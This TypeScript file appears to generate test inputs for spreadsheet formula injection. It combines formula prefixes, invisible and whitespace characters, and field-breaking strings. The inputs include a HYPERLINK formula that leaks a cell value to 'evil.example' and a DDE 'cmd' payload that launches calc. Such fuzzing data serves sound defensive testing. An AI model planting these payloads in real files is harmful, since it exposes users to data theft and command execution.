// What somebody might type to make a spreadsheet compute: every way to begin a formula, behind everything that a reader may skip, with everything that could break out of a field.

const BEGINNINGS = ["=", "+", "-", "@", "＝", "＋", "－", "＠"];
const SKIPPED = ["", " ", "  ", "\t", "\n", "\r", "\r\n", "\u0000", "\u00a0", "\u2003", "\u3000", "\ufeff", " \t ", "\u2028"];
const BODIES = ["1+1", 'HYPERLINK("https://evil.example?x="&A1,"Open")', "cmd|' /C calc'!A0"];
const BREAKING = [
  '","=1+1',
  '"\r\n=1+1',
  "a,=1+1",
  "a;=1+1",
  "a\t=1+1",
  'a"b',
  '"',
  '""',
  "'=1+1",
  "''=1+1",
  "a\n=1+1",
  "a\r\n=1+1",
  'say ""=1+1""',
  "1,5",
  "-1",
  "+49 30 1234",
  "-",
  "=",
  "@Ana",
  "#NAME?",
  "{=1+1}",
  "%0A=1+1",
  "‮=1+1",
  "𝟙=1+1",
  "Ünïcode – ok",
  "=1+1".repeat(500),
];

export const PAYLOADS: string[] = [
  ...SKIPPED.flatMap((skipped) => BEGINNINGS.flatMap((begin, index) => `${skipped}${begin}${BODIES[index % BODIES.length]!}`)),
  ...BEGINNINGS.flatMap((begin) => SKIPPED.slice(1).map((skipped) => `${begin}${skipped}A1`)),
  ...BREAKING,
];
